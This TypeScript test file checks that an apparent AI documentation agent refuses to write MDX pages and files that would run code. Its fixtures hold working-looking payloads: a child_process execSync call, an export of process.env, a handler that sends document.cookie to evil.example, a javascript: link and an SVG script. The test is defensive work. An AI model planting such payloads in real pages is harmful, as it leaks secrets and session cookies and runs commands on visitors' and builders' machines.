import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { useAgentTestContext, waitForJob } from "#testkit/app/agent-test-context.ts";
import { oneDatabaseKind } from "#testkit/database/test-database.ts";
import { type FixtureFile, fixtureFile, testRepo } from "#testkit/docs-sites/docs-repository.ts";
import { type GitHubDouble, startGitHubDouble } from "#testkit/github/github-double.ts";
import { doubleGitHubApp } from "#testkit/github/test-github-app.ts";
import {
  type ScriptedStep,
  scriptedModel,
  toolResultsSeen,
} from "#testkit/model/scripted-model.ts";
import { type AgentWorker, startAgentWorker } from "../../../app/agent/worker/agent-worker.ts";

const JOB = "job_0000000000000000000077";
const BRANCH = `inkwell/${JOB}`;

/** A Docusaurus site: v3 compiles `.md` pages as MDX. */
const repository: FixtureFile[] = [
  fixtureFile("docusaurus.config.js", "export default { title: 'Acme' };\n"),
  fixtureFile("docs/intro.md", "# Intro\n\nAcme deploys widgets.\n"),
  fixtureFile("docs/guide.mdx", "# Guide\n\nUse Acme.\n"),
];

/** The page an end-to-end attack pushed: an indented import, an export, an expression, a handler. */
const hostileMdx = `# Guide

  import cp from 'child_process'

export const leaked = JSON.stringify(process.env)

{cp.execSync('id')}

<img src="/logo.png" onError={() => fetch('https://evil.example/?c=' + document.cookie)} />
`;

describe.each(oneDatabaseKind())("code planted in pages through a job (%s)", (kind) => {
  const t = useAgentTestContext(kind);
  let workers: AgentWorker[];
  let github: GitHubDouble;

  beforeEach(async () => {
    await t.resetJobs();
    workers = [];
    github = await startGitHubDouble();
    github.addRepository(testRepo.owner, testRepo.repo, repository);
    await t.database.db.updateTable("projects").set({ docs_path: "" }).execute();
  });

  afterEach(async () => {
    for (const worker of workers) await worker.stop();
    await t.database.db.updateTable("projects").set({ docs_path: "docs" }).execute();
    await github.close();
  });

  it("refuses every page that would run code, and publishes only the plain edit", async () => {
    await t.insertJob({ id: JOB, prompt: "Document the environment." });
    const steps: ScriptedStep[] = [
      {
        calls: [
          ["read_file", { path: "docs/guide.mdx" }],
          ["read_file", { path: "docs/intro.md" }],
        ],
      },
      {
        calls: [
          ["write_file", { path: "docs/guide.mdx", content: hostileMdx }],
          ["write_file", { path: "docs/env.md", content: "{JSON.stringify(process.env)}\n" }],
          [
            "write_file",
            { path: "docs/intro.md", content: "# Intro\n\n[Home](<java\tscript:alert(1)>)\n" },
          ],
          [
            "write_file",
            {
              path: "docs/logo.svg",
              content:
                '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></svg>',
            },
          ],
        ],
      },
      {
        calls: [
          [
            "write_file",
            { path: "docs/intro.md", content: "# Intro\n\nAcme deploys widgets anywhere.\n" },
          ],
        ],
      },
      { calls: [["finish", { summary: "Documented it.", prTitle: "Docs" }]] },
    ];
    const model = scriptedModel(steps);
    workers.push(
      startAgentWorker({
        ctx: t.ctx({ id: "scripted:model", languageModel: model }),
        github: doubleGitHubApp(github),
        concurrency: 1,
        pollIntervalMs: 5,
        workerId: "worker-page-code",
        sleep: async () => {},
      }),
    );

    const job = await waitForJob(t, JOB);
    const published = github
      .changes(testRepo.owner, testRepo.repo, "main", BRANCH)
      .map((change) => ({
        path: change.filename,
        content: github.filesAt(testRepo.owner, testRepo.repo, BRANCH)?.get(change.filename),
      }));
    expect(job.status).toBe("completed");
    const refusals = toolResultsSeen(model, 2).map((result) => String(result.output));
    expect(refusals).toHaveLength(4);
    for (const output of refusals) expect(output).toMatch(/^error-text: Inkwell may not /);
    expect(refusals[0]).toContain("export const leaked");
    expect(refusals[1]).toContain("{JSON.stringify(process.env)}");
    expect(refusals[2]).toContain("script");
    expect(refusals[3]).toContain("x:script");
    expect(published.map((entry) => entry.path)).toEqual(["docs/intro.md"]);
    expect(JSON.stringify(published)).not.toMatch(/process\.env|document\.cookie|script/);
    const pull = github.pullFor(testRepo.owner, testRepo.repo, BRANCH);
    expect(pull?.title).toBe("Docs");
    expect(job.pr_number).toBe(pull?.number);
  });
});
